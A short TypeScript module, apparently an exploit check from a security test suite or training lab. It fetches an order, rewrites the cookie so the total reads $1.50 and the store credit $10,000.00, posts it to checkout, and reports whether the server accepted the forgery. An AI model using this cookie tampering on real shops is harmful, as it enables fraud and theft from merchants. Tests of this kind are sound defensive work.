export default async function attack(fetch: typeof globalThis.fetch, baseUrl: string): Promise<boolean> {
  const order = await fetch(baseUrl + '/order');
  const told = (await order.json()) as any;
  const header = order.headers
    .getSetCookie()
    .map((line) => line.replace(/;.*/, ''))
    .join('; ')
    .replace(encodeURIComponent(told.total), '%241.50')
    .replace(encodeURIComponent(told.credit), '%2410%2C000.00');
  const receipt = await fetch(new URL('/checkout', baseUrl), { method: 'POST', headers: new Headers({ Cookie: header }) }).then(
    (response) => response.text(),
  );
  return receipt.includes('"$1.50"') && receipt.includes('"$10,000.00"');
}
